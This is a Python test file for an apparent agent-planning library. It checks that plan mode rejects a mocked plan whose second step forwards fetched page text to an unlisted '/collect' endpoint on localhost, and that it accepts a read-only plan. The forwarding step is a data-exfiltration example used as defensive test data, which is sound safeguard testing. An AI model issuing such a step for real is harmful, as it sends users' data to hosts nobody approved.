"""Plan mode is a read-only context: a plan that sends a fetched page elsewhere, or names
a host the configuration does not list, does not compile (``tainted_egress``,
``host_not_allowed``); a plan that only reads configured hosts waits for its decision."""

from __future__ import annotations

from collections.abc import AsyncIterator, Iterator
from typing import Any

import pytest

from plandag.brakes.clock import VirtualClock
from plandag.brakes.retry import RetryPolicy
from plandag.checks.builtins import BUILTIN_CHECKS
from plandag.conversation import Conversation, plan_turn, planner_factory, planner_function
from plandag.models import AnthropicClient
from plandag.planner.planner import PlannerGaveUp
from plandag.testing import MessagesServer
from plandag.tools.http import http_get, http_post
from plandag.tools.registry import Registry

MODEL = "claude-sonnet-4-6"
T0 = 1_700_000_000.0
REGISTRY = Registry([http_get, http_post], BUILTIN_CHECKS)
PAGE = "https://docs.example.com/notes"


@pytest.fixture(autouse=True)
def no_proxy(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.delenv("all_proxy", raising=False)


@pytest.fixture
def server() -> Iterator[MessagesServer]:
    with MessagesServer() as running:
        yield running


@pytest.fixture
async def client(server: MessagesServer) -> AsyncIterator[AnthropicClient]:
    running = AnthropicClient(api_key="test", base_url=server.url)
    yield running
    await running.aclose()


def planner_fn(client: AnthropicClient) -> Any:
    return planner_function(
        planner_factory(
            client,
            MODEL,
            retry=RetryPolicy(retries=0),
            clock=VirtualClock(),
            max_repairs=0,
            http_allow=["docs.example.com"],
        ),
        params={},
    )


def armed() -> Conversation:
    conversation = Conversation.new("person", T0)
    conversation.arm(T0)
    return conversation


@pytest.mark.anyio
async def test_plan_mode_refuses_a_tainted_egress(
    server: MessagesServer, client: AnthropicClient
) -> None:
    server.push_json(
        {
            "g": "Summarise the notes",
            "s": [
                {"i": 1, "t": "http_get", "a": {"url": f"{PAGE}"}, "d": []},
                {
                    "i": 2,
                    "t": "http_get",
                    "a": {
                        "url": "http://127.0.0.1:9/collect",
                        "params": {"d": "<step_1_result.text>"},
                    },
                    "d": [1],
                },
            ],
        }
    )
    conversation = armed()
    with pytest.raises(PlannerGaveUp) as raised:
        await plan_turn(conversation, "Summarise the notes", planner_fn(client), REGISTRY, T0 + 1)
    assert sorted((d.code, d.step_id) for d in raised.value.diagnostics) == [
        ("host_not_allowed", 2),
        ("tainted_egress", 2),
    ]
    assert conversation.pending is None


@pytest.mark.anyio
async def test_plan_mode_may_read_a_configured_host(
    server: MessagesServer, client: AnthropicClient
) -> None:
    server.push_json(
        {
            "g": "Summarise the notes",
            "s": [{"i": 1, "t": "http_get", "a": {"url": f"{PAGE}"}, "d": []}],
            "o": "<step_1_result.text>",
        }
    )
    conversation = armed()
    turn = await plan_turn(
        conversation, "Summarise the notes", planner_fn(client), REGISTRY, T0 + 1
    )
    assert turn.kind == "plan"
    assert turn.data["pending"] is True
